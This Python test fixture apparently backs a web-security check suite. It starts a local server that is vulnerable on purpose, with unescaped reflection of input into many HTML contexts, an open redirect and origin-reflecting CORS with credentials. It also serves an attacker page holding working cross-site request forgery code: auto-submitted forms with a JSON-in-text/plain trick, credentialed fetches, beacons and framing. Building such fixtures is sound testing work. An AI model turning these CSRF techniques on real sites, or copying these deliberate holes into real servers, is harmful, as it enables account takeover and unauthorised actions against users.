"""An attacker's page, and a careless journal that falls for it: a server of its own with every fault that row 23 looks
for, so that each check has something to find."""

import json
import threading
from html import escape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import parse_qs, urlsplit

# Where a careless page puts a text.
CONTEXTS = ("<p>%s</p>", '<input value="%s">', "<input value='%s'>", "<p title=%s>x</p>", "<textarea>%s</textarea>",
            "<select><option>%s</option></select>", "<script>var x = '%s'</script>", '<script>var x = "%s"</script>',
            "<script>var x = `%s`</script>", '<a href="%s">x</a>', "<pre>%s</pre>", "<script>x=1;%s</script>",
            "<style>p{color:%s}</style><p>x</p>", '<p style="color:%s">x</p>', "<!-- %s -->", "<title>%s</title>",
            '<iframe src="%s"></iframe>')

ATTACK = """<!doctype html><meta charset=utf-8><title>prizes</title><h1>prizes</h1>
<button id=open onclick="window.opened = window.open(to + '/trades')">more prizes</button><div id=forms></div><script>
const to = %(to)s, changes = %(changes)s, reads = %(reads)s, frames = %(frames)s, top_ = %(top)s;
window.attack = { read: [], sent: 0, done: false };
function form({ method, path, body }, enctype, target) {
  const one = document.createElement("form");
  const action = to + path + (method === "POST" ? "" : "?_method=" + method);
  Object.assign(one, { method: "POST", action, enctype, target });
  const field = document.createElement("input");
  // As text/plain the two are joined by "=": what comes out is JSON.
  const text = body ?? "{}";
  [field.name, field.value] = enctype === "text/plain"
    ? [text.trim().slice(0, -1) + (text.trim() === "{}" ? "" : ",") + '"x":"', '"}'] : ["body", text];
  one.append(field);
  forms.append(one);
  one.submit();
  window.attack.sent += 1;
}
function frame(name, src) {
  const one = Object.assign(document.createElement("iframe"), { name });
  if (src) one.src = src;
  document.body.append(one);
  return new Promise((done) => { one.onload = done; setTimeout(done, 1500); });
}
async function attempt(name, ask) {
  window.attack.sent += 1;
  try { if (await ask()) window.attack.read.push(name); } catch {}
}
async function run() {
  for (const [at, change] of changes.entries()) {
    const { method, path, body } = change, url = to + path, credentials = "include";
    const ways = ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"];
    for (const way of ways) await attempt("no-cors " + path, async () => {
      const headers = { "Content-Type": way };
      const answer = await fetch(url, { method: "POST", mode: "no-cors", credentials, body: body ?? "{}", headers });
      return answer.type !== "opaque";
    });
    await attempt(method + " " + path, async () => (await fetch(url, { method, credentials, body: body ?? undefined,
      headers: { "Content-Type": "application/json", "X-CSRF-Token": "0".repeat(40) } })).type);
    navigator.sendBeacon(url, new Blob([body ?? "{}"], { type: "text/plain" }));
    const loaded = frame("f" + at);
    form(change, ways[at %% 3], "f" + at);
    await loaded;
  }
  for (const path of reads)
    await attempt("GET " + path, async () => (await fetch(to + path, { credentials: "include" })).type);
  await attempt("events", () => new Promise((done) => {
    const source = new EventSource(to + "/api/v1/events", { withCredentials: true });
    const end = (open) => { source.close(); done(open); };
    source.onopen = () => end(true);
    source.onerror = () => end(false);
    setTimeout(() => end(false), 3000);
  }));
  for (const path of frames) await frame("framed", to + path);
  window.attack.done = true;
}
addEventListener("load", () => (top_ === null ? run() : form(changes[top_], "text/plain", "_self")));
</script>"""


class Server(ThreadingHTTPServer):
    daemon_threads = True

    def handle_error(self, *_):  # a browser that has seen enough
        pass


class Careless:
    """A journal without any care, and the host of what attacks another. `changed` counts what it let happen."""

    def __init__(self, row, texts=(), changes=(), reads=(), frames=()):
        self.texts, self.changed = texts, 0
        self.attack = {"changes": list(changes), "reads": list(reads), "frames": list(frames)}
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                outer.get(self)

            def do_POST(self):
                outer.change(self)
            do_PUT = do_PATCH = do_DELETE = do_POST

            def do_OPTIONS(self):
                outer.answer(self, 204, "")

            def log_message(self, *_):
                pass
        self.http = Server(("127.0.0.1", 0), Handler)
        self.port = self.http.server_address[1]
        threading.Thread(target=self.http.serve_forever, args=(0.05,), daemon=True).start()
        row.at_end(self.close)

    def close(self):
        self.http.shutdown()
        self.http.server_close()

    @property
    def url(self):
        return "http://127.0.0.1:%d" % self.port

    def attack_url(self, to, host="127.0.0.1"):
        return "http://%s:%d/attack?to=%s" % (host, self.port, to)

    def echoes(self):
        """The address of each text as this journal shows it."""
        return ["%s/echo/%d" % (self.url, at) for at in range(len(self.texts))]

    @staticmethod
    def answer(request, status, body, **headers):
        data = body.encode()
        request.send_response(status)
        origin = request.headers.get("Origin")
        if origin:
            for name, value in (("Origin", origin), ("Credentials", "true"), ("Headers", "content-type, x-csrf-token"),
                                ("Methods", "GET, POST, PUT, PATCH, DELETE")):
                request.send_header("Access-Control-Allow-" + name, value)
        request.send_header("Content-Type", "text/html; charset=utf-8")
        request.send_header("Content-Length", str(len(data)))
        for name, value in headers.items():
            request.send_header(name.replace("_", "-"), value)
        request.end_headers()
        if request.command != "HEAD":
            request.wfile.write(data)

    def get(self, request):
        url = urlsplit(request.path)
        query = {name: values[0] for name, values in parse_qs(url.query).items()}
        part = url.path.split("/")
        if url.path == "/attack":
            words = {name: json.dumps(value).replace("<", "\\u003c") for name, value in self.attack.items()}
            top = query.get("top", "null")
            self.answer(request, 200, ATTACK % {**words, "to": json.dumps(query["to"]), "top": top})
        elif part[1] == "echo" and part[2:] == [part[-1]] and part[2].isdigit():
            # What ends no element swallows what comes after it: each text begins in another way.
            at = int(part[2])
            ways = CONTEXTS[at % len(CONTEXTS):] + CONTEXTS[:at % len(CONTEXTS)]
            shown = "\n".join(way % self.texts[at] for way in ways)
            self.answer(request, 200, "<!doctype html><meta charset=utf-8>" + shown)
        elif "next" in query:
            self.answer(request, 302, "", Location=query["next"])
        else:
            self.answer(request, 200, "<h1>%s</h1>" % escape(url.path))

    def change(self, request):
        request.rfile.read(int(request.headers.get("Content-Length") or 0))
        self.changed += "tjp_session" in request.headers.get("Cookie", "")
        self.answer(request, 200, "done", Set_Cookie="tjp_session=mine; Path=/; SameSite=Lax")
